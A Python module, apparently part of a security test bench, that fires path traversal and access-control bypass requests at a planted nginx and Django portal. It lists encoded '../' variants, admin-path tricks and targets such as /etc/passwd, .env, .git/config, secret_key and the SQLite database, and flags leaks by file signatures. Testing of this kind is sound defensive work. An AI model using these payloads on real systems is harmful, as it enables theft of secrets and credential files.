"""Path tricks: out of a folder, to files of the program, around what is closed."""

import itertools
from collections.abc import Iterator

from bench.attack.findings import Finding
from bench.attack.people import Secret
from bench.attack.target import Target

NAME = "paths"
UP = (
    "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "..%c0%af", "..%ef%bc%8f",
    "..\\", "..%5c", "....//", ".../", "..;/", "..%00/", "./../", ".%2e/", "//../", "%2f../",
    "..%u2215", "..%0a/",
)  # fmt: skip
FOLDERS = (
    "/",
    "/media/",
    "/media",
    "/media/images/",
    "/static/",
    "/static",
    "/static/css/",
    "/documents/",
    "/news/",
    "/admin/",
    "/en/",
    "/current/pages/",
    "/.well-known/",
)
FILES = ("secret_key", "db.sqlite3", "etc/passwd", "portal/settings.py", "media/documents/")
DIRECT = (
    "/.git/HEAD", "/.git/config", "/.env", "/secret_key", "/data/secret_key", "/db.sqlite3",
    "/private/", "/backups/", "/published/", "/current/", "/current/pages/index.html", "/media/",
    "/media/documents/", "/media/documents/planted-9001.pdf", "/media/documents/planted-9002.pdf",
    "/media/wagtail_uploads/planted-upload.png", "/media/private/", "/static/", "/static/css/",
    "/portal/settings.py", "/manage.py", "/requirements.txt", "/index.html", "/index.html.gz",
    "/news/index.html.headers", "/server-status", "/nginx_status", "/metrics", "/debug/",
    "/__debug__/", "/wp-login.php", "/admin/login/..;/", "/admin;/", "/ADMIN/", "/admin%2f",
    "/%61dmin/", "/admin/%2e/", "/admin//users/", "//admin/users/", "/./admin/users/",
    "/admin/users/%20", "/admin/users/%00", "/admin/users/.json", "/admin/users/?format=json",
    "/news/..;/admin/users/", "/static/../admin/users/", "/media/..%2fadmin/users/",
    "/en/admin/users/", "/zh-hans/admin/users/", "/documents/9001/", "/documents/9001/x",
    "/documents/9001/planted-9001.pdf?download=1", "/documents/9002/planted-9002.pdf/",
    "/rate-limits", "/images.lock", "/media/../rate-limits",
)  # fmt: skip
#: What only these files hold; the key itself is looked for in every answer.
SIGNS = {
    b"root:x:0:": "/etc/passwd",
    b"SQLite format 3": "the database",
    b"INSTALLED_APPS": "the program",
    b"[core]": ".git/config",
    b"ref: refs/": ".git/HEAD",
    b"Index of /": "a folder's list",
    b"Zfile9001Z": "a file for people who are signed in",
    b"Zfile9002Z": "a file with a password",
    b"Zupload9001Z": "an upload whose form waits",
    b"Zinquiry9": "an inquiry",
    b"/admin/users/edit/9001/": "the list of users",
    b"portal_edition": "figures for Prometheus",
}


def attack(target: Target, secrets: list[Secret]) -> Iterator[Finding]:
    """Ask nginx and the embedded server for what neither may give."""
    climbing = (
        f"{folder}{up * depth}{file}"
        for folder, up, depth, file in itertools.product(FOLDERS, UP, (1, 2, 7), FILES)
    )
    # Every one to nginx, where files are; the embedded server's folders are Django's to guard.
    asked = [(path, False) for path in climbing]
    asked += [(f"/media/{up * 3}{file}", True) for up in UP for file in FILES]
    asked += [(f"/static/{up * 3}{file}", True) for up in UP for file in FILES]
    asked += [(path, embedded) for path in DIRECT for embedded in (False, True)]
    for path, embedded in asked:
        request = (
            f"GET {path} HTTP/1.1\r\nHost: {target.host}\r\n"
            "X-Forwarded-Proto: https\r\nConnection: close\r\n\r\n"
        )
        body = target.raw(request.encode(), embedded).partition(b"\r\n\r\n")[2]
        # An address is often said again in the page that says it is not there.
        body = body.replace(path.encode(), b"")
        for sign, what in SIGNS.items():
            if sign in body:
                yield Finding(
                    "file-given", f"{what} at {path} ({'embedded' if embedded else 'nginx'})"
                )
